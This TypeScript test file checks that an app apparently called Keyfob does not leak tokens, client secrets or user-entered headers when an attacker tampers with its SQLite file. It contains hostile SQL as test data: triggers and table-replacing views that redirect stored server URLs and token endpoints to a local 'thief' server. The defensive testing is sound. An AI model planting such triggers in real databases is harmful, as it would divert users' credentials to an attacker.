import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { connect } from '../../../src-main/connections/sign-in/connect.ts';
import { startKeyfob, type Keyfob } from '../../support/keyfob.ts';
import { machineClient } from '../../support/machine-client.ts';
import { startRealParts } from '../../support/real-parts.ts';
import { json, scriptedServer, type ScriptedServer } from '../../support/scripted-server.ts';
import { toolsOf } from '../../support/tools.ts';
import { openTemporary } from '../../store/fixture.ts';

/*
 * A database is not only rows. An attacker who can write the file, and has no key, can add triggers, which run inside
 * Keyfob's own transactions, and can replace a table by a view, which may answer each reference to a column with
 * another value, within one statement.
 */

async function startThief(): Promise<ScriptedServer> {
  const thief = await scriptedServer();
  thief.routes['/token'] = json({ access_token: 'stolen', token_type: 'Bearer', expires_in: 3600 });
  thief.routes['/mcp'] = json({ jsonrpc: '2.0', id: 0 });
  return thief;
}

const heardBy = (thief: ScriptedServer): string =>
  thief.requests.map(({ path, headers, body, form }) => JSON.stringify([path, headers, body, [...form]])).join('\n');

function write(kit: Pick<Keyfob, 'folder'>, ...statements: string[]): void {
  const database = openTemporary(join(kit.folder, 'keyfob.sqlite'));
  for (const statement of statements) database.exec(statement);
}

/** Replaces a table by a view. `lies` are columns with an expression each; changes go to the table behind it. */
function replaceByView(kit: Pick<Keyfob, 'folder'>, table: string, lies: Record<string, string>): void {
  const database = openTemporary(join(kit.folder, 'keyfob.sqlite'));
  const names = (database.pragma(`table_info(${table})`) as { name: string }[]).map(({ name }) => name);
  const shown = names.map((name) => (lies[name] ? `(${lies[name]}) AS ${name}` : name));
  const trueNames = names.filter((name) => !(name in lies));
  database.exec(`
    ALTER TABLE ${table} RENAME TO ${table}_behind;
    CREATE VIEW ${table} AS SELECT ${shown.join(', ')} FROM ${table}_behind;
    CREATE TRIGGER ${table}_insert INSTEAD OF INSERT ON ${table} BEGIN
      INSERT INTO ${table}_behind (${names.join(', ')}) VALUES (${names.map((name) => `NEW.${name}`).join(', ')}); END;
    CREATE TRIGGER ${table}_update INSTEAD OF UPDATE ON ${table} BEGIN
      UPDATE ${table}_behind SET ${trueNames.map((name) => `${name} = NEW.${name}`).join(', ')} WHERE id = OLD.id; END;
    CREATE TRIGGER ${table}_delete INSTEAD OF DELETE ON ${table} BEGIN
      DELETE FROM ${table}_behind WHERE id = OLD.id; END;`);
}

/** Either value at random: two references in one statement differ half of the time. */
const either = (one: string, other: string) => `CASE WHEN random() > 0 THEN ${one} ELSE ${other} END`;

const times = Array.from({ length: 40 }, (_, index) => index);

describe('a trigger that changes a server while Keyfob changes something else of it', () => {
  it('does not send the headers that a person entered to another address', async () => {
    const { kit, id, change } = await startRealParts();
    await change({ headers: { 'x-key': 'entered-canary' } });
    const thief = await startThief();
    write(
      kit,
      `CREATE TRIGGER theft AFTER UPDATE OF note ON server BEGIN
         UPDATE server SET url = '${thief.origin}/mcp' WHERE id = NEW.id; END`,
    );
    await change({ note: 'Mine' });
    await expect(connect(kit.context, kit.session, id)).rejects.toMatchObject({ code: 'headers_needed' });
    expect(heardBy(thief)).not.toContain('entered-canary');
  });

  it('does not send a client secret to another token endpoint once it was used for the first time', async () => {
    const { clients, settings } = machineClient('client_secret_post');
    const { authorization, kit, id } = await startRealParts({
      authorization: { clients, clientCredentials: true },
      settings,
    });
    const thief = await startThief();
    write(
      kit,
      `CREATE TRIGGER theft AFTER UPDATE OF client_issuer ON server BEGIN
         UPDATE server SET token_endpoint = '${thief.origin}/token', issuer = '${authorization.issuer}'
          WHERE id = NEW.id; END`,
    );
    for (const _ of [1, 2]) await connect(kit.context, kit.session, id).catch(() => undefined);
    expect(heardBy(thief)).not.toContain('client_secret');
  });
});

describe('a view that replaces a table', () => {
  it('of servers does not send a token to another address', async () => {
    const { kit, id, server, authorization } = await startRealParts();
    await kit.signIn(id);
    kit.close();
    const thief = await startThief();
    replaceByView(kit, 'server', { url: either(`'${server.url}'`, `'${thief.origin}/mcp'`) });
    const again = await startKeyfob({ folder: kit.folder });
    for (const _ of times) {
      await toolsOf(again, id)
        .call('whoami')
        .catch(() => undefined);
      again.context.accessTokens.forgetServer(id);
    }
    for (const { value } of authorization.secrets) expect(heardBy(thief)).not.toContain(value);
    expect(heardBy(thief)).not.toMatch(/bearer /i);
  });

  it('of servers does not send the headers that a person entered to another address', async () => {
    const { kit, id, server, change } = await startRealParts();
    await change({ headers: { 'x-key': 'entered-canary' } });
    kit.close();
    const thief = await startThief();
    replaceByView(kit, 'server', { url: either(`'${server.url}'`, `'${thief.origin}/mcp'`) });
    const again = await startKeyfob({ folder: kit.folder });
    for (const _ of times) await connect(again.context, again.session, id).catch(() => undefined);
    expect(heardBy(thief)).not.toContain('entered-canary');
  });
});
